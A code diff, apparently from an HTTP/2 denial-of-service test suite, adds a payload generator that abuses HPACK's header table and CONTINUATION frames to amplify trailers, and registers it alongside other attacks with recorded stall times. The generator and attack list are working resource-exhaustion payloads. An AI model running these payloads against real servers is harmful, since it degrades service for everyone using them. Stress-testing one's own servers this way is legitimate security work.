@@ -164,6 +164,20 @@ def language_of_the_table(index, facts):
         yield 0.05
 
 
+def trailers_of_the_table(index, facts):
+    """Trailers of 147 KB that name a field of 3.9 KB by each byte, after frames that make the server read in large parts."""
+    size, frames = 16 << 10, 9
+    large = literal("x", "y" * 3_900, indexed=True)
+    block = from_table(62) * size
+    yield hello() + h2(H2_HEADERS, END_HEADERS, 1, wire.headers(REFLECT, large)) + h2(H2_UNKNOWN, 0, 0, b"x" * size) * 190
+    for call in itertools.count(1, 2):
+        if call > 1:
+            yield h2(H2_HEADERS, END_HEADERS, call, wire.headers(REFLECT))
+        yield h2(H2_HEADERS, END_STREAM, call, block) + b"".join(
+            h2(H2_CONTINUATION, END_HEADERS if number == frames - 1 else 0, call, block) for number in range(1, frames))
+        yield 0.3
+
+
 def start_and_cancel(index, facts):
     body, stream = request(WATCH, field(1, "")), ids()
     while True:
@@ -386,6 +400,7 @@ ATTACKS = (
     Attack("marks in every other text", 2, "83e714f: everybody waited for 3 s", texts_in_other_fields),
     Attack("accept-language of 4 MiB", 2, "1 s for everybody, without a session", long_language),
     Attack("accept-language by HPACK's table", 2, "victim stalled 3.2 s by 47 KB/s", language_of_the_table),
+    Attack("trailers by HPACK's table", 2, "cd98cb66: 168 ms for everybody, without a session", trailers_of_the_table),
     Attack("start and cancel, 64 connections", 2, "p99 0.3 ms → 1.5 s", start_and_cancel, connections=64),
     Attack("gzip bombs, 16 connections", 2, "p50 7.1 s", bombs, connections=16),
     Attack("small messages of streams", 2, "a4d85e83: 8 ms a burst", small_messages, connections=16),
